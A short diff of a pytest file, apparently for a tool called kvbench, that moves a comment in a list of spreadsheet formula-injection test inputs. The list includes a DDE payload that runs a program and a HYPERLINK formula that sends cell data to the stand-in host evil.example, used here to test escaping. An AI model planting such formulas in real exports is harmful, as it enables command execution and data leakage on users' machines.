@@ -59,6 +59,7 @@ def test_bad_format_is_a_usage_error(kvbench, run_file):
     assert code == 2 and "--format" in stderr
 
 
+# a leading carriage return: test_negative_numbers_are_numbers_not_formulas (capture turns it into \n)
 FORMULAS = [
     "=cmd|' -C calc'!A0",
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -66,7 +67,7 @@ FORMULAS = [
     "-2+3",
     "@SUM(A1)",
     "\tx",
-]  # a leading carriage return: test_negative_numbers_are_numbers_not_formulas (capture turns it into \n)
+]
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
